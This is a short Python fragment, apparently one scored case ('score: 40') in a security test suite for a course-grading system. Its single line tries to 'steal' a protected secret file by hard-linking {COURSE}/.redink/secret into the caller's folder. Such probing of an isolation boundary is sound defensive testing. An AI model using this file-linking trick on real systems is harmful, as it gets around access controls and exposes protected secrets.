"""Links the secret into its own folder.

score: 40
"""

steal(lambda: os.link(f'{COURSE}/.redink/secret', 'mine'))
